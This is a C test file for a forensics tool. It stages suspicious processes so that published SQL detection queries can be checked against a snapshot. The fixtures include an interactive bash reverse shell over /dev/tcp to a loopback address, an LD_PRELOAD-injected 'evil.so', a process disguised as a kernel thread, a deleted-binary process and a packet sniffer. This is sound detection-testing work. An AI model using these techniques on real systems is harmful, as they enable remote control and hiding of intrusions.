/*
 * Questions of published rule packs (tests/published/), asked of a snapshot: each runs unchanged, has its columns, and finds the processes
 * that it is about.
 *
 * A block of tests/published/NAME.sql ends with an empty line.  Its first line says the question, `-- columns:` the header (... for
 * whatever follows), `-- finds:` a condition of jq that holds for one row at least, with the names below.
 */
#include "tests/support/test.h"

#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "tests/support/actor.h"
#include "tests/support/run.h"
#include "tests/support/scene.h"

#define ASK "analyze query --snapshot latest -f question.sql case.db --format "

/* The processes that the questions are about; jq gets their pids by these names. */
struct cast {
    const char *name, *command;
};

static struct scene *
begin(void)
{
    struct scene *scene = scene_begin();

    scene_needs_root();
    sh_ok(scene, "cp $(command -v holder) .gone; echo 'int evil = 1;' >evil.c; cc -shared -fPIC -o evil.so evil.c");
    return scene;
}

/* "--argjson NAME PID" for each actor.  The shell has the listener's connection for its standard streams. */
static char *
start_cast(struct scene *scene, const char *netns)
{
    const struct cast cast[] = {
        { "listener", scene_text(scene, "holder tcp4-listen:0.0.0.0,%u", scene_port(scene, 0)) },
        { "deleted", "./.gone tcp4-listen:127.9.9.9,0" },
        { "preloaded", "env LD_PRELOAD=./evil.so ASAN_OPTIONS=verify_asan_link_order=0 holder unix-pair" },
        { "disguised", "holder name:kworker/9:9 unix-pair" },
        { "lowered", "setpriv --ruid 1 --clear-groups holder unix-pair" },
        { "sniffer", "holder packet raw4:1" },
        { "unix", "holder unix-listen:published.sock file:loot.txt" },
        { "inside", scene_text(scene, "ip netns exec %s holder tcp4-listen:0.0.0.0,%u", netns, scene_port(scene, 1)) },
    };
    char *arguments = scene_text(scene, "--argjson tests %d", (int)getpid());
    struct actor *actor;

    for (size_t i = 0; i < sizeof(cast) / sizeof(cast[0]); i++)
        arguments = scene_text(scene, "%s --argjson %s %d", arguments, cast[i].name,
                               (int)actor_start(scene, "%s", cast[i].command)->pid);
    actor = actor_start_until(
        scene, scene_text(scene, "ss -tnH state established dport = :%u | grep -q .", scene_port(scene, 0)),
        "bash -c 'exec bash --norc -i <>/dev/tcp/127.9.9.9/%u >&0 2>&1'", scene_port(scene, 0));
    return scene_text(scene, "%s --argjson shell %d", arguments, (int)actor->pid);
}

/* The other variables of jq. */
static char *
facts(struct scene *scene, const char *netns)
{
    return scene_text(scene,
                      "--argjson port %u --argjson inner_port %u --arg namespace %llu --argjson aslr \"$(cat "
                      "/proc/sys/kernel/randomize_va_space)\" --arg kernel \"$(uname -r)\" --arg host \"$(uname -n)\""
                      " --arg platform \"$(. /etc/os-release; echo $ID)\"",
                      scene_port(scene, 0), scene_port(scene, 1),
                      (unsigned long long)scene_namespace_inode(scene, netns));
}

/* What stands behind "-- WORD: " in the block; NULL when it has no such line. */
static char *
said(struct scene *scene, const char *block, const char *word)
{
    const char *line = strstr(block, scene_text(scene, "\n-- %s: ", word));

    if (!line)
        return NULL;
    line = strchr(line, ':') + 2;
    return scene_text(scene, "%.*s", (int)strcspn(line, "\n"), line);
}

static void
expect_columns(struct scene *scene, const char *block, const char *want)
{
    size_t len = strlen(want);
    struct result result = sh(scene, ASK "csv >out.csv && sed -n 's/\\r//;1p' out.csv");
    bool more = len > 3 && strcmp(want + len - 3, "...") == 0;

    if (result.status != 0)
        fail_msg("%s\n%s", block, result.err);
    if (more ? strncmp(result.out, want, len - 3) != 0 : strcmp(result.out, scene_text(scene, "%s\n", want)) != 0)
        fail_msg("%s\nhas the columns %s", block, result.out);
}

static void
expect_row(struct scene *scene, const char *block, const char *condition, const char *arguments)
{
    char *filter = scene_text(scene, "any(.[]; %s)", condition);
    struct result result;

    scene_write(scene, "filter", filter, strlen(filter));
    result = sh(scene, ASK "jsonl >out.jsonl && jq -se %s -f filter out.jsonl", arguments);
    if (result.status != 0)
        fail_msg("%s\n%s%.3000s\n%s", block, result.out, sh(scene, "cat out.jsonl").out, result.err);
}

static size_t
ask_all(struct scene *scene, const char *theme, const char *arguments)
{
    char *text = sh_ok(scene, "cat $TOP/tests/published/%s.sql", theme), *end;
    size_t asked = 0;

    for (; *text; text = end + strspn(end, "\n")) {
        char *block, *columns, *finds;

        end = strstr(text, "\n\n");
        end = end ? end : text + strlen(text);
        block = scene_text(scene, "%.*s", (int)(end - text), text);
        columns = said(scene, block, "columns");
        finds = said(scene, block, "finds");
        if (!columns)
            continue;
        scene_write(scene, "question.sql", block, strlen(block));
        expect_columns(scene, block, columns);
        if (finds)
            expect_row(scene, block, finds, arguments);
        asked++;
    }
    return asked;
}

TEST(published_questions_run_unchanged)
{
    static const char *const themes[] = { "processes", "sockets", "files", "host" };
    struct scene *scene = begin();
    char *netns = scene_namespace(scene);
    char *arguments = scene_text(scene, "%s %s", start_cast(scene, netns), facts(scene, netns));
    size_t asked = 0;

    sh_ok(scene, "rm .gone");
    sh_usable(scene, "collect -q --environ --maps --hash-exe -o s.tar.zst");
    sh_usable(scene, "analyze load case.db s.tar.zst");
    for (size_t i = 0; i < sizeof(themes) / sizeof(themes[0]); i++)
        asked += ask_all(scene, themes[i], arguments);
    assert_in_range(asked, 100, 1000);
    scene_end(scene);
}

static char *
notices(struct scene *scene, const char *options, const char *sql)
{
    struct result result = sh(scene, "analyze query %s case.db \"%s\"", options, sql);

    assert_int_equal(result.status, 0);
    return result.err;
}

/* The snapshot was taken without the data of the question: analyze says so, since no row is no answer then. */
TEST(published_questions_that_a_snapshot_cannot_answer)
{
    static const char question[] = "SELECT pid FROM process_envs JOIN processes USING (pid) WHERE key = 'LD_PRELOAD'";
    struct scene *scene = scene_begin();

    sh_usable(scene, "collect -q | analyze load case.db -");
    assert_string_equal(notices(scene, "--snapshot latest", question),
                        "analyze: process_envs: 1 of 1 snapshots taken without --environ\n");
    assert_string_equal(notices(scene, "", "SELECT count(*) FROM process_environment"),
                        "analyze: process_environment: 1 of 1 snapshots taken without --environ\n");
    assert_string_equal(notices(scene, "", "SELECT path FROM hash; SELECT start FROM process_memory_map"),
                        "analyze: process_memory_map: 1 of 1 snapshots taken without --maps\n"
                        "analyze: hash has the programs that run, and no other file\n"
                        "analyze: executable_hashes: 1 of 1 snapshots taken without --hash-exe\n");
    assert_string_equal(notices(scene, "", "SELECT pid FROM processes"), "");
    sh_usable(scene, "collect -q --environ --maps --hash-exe | analyze load case.db -");
    assert_string_equal(notices(scene, "--snapshot latest", question), "");
    assert_string_equal(notices(scene, "--each", question),
                        "analyze: process_envs: 1 of 2 snapshots taken without --environ\n");
    assert_string_equal(notices(scene, "--snapshot latest", "SELECT path FROM file"),
                        "analyze: file has the programs that run, and no other file\n");
    scene_end(scene);
}
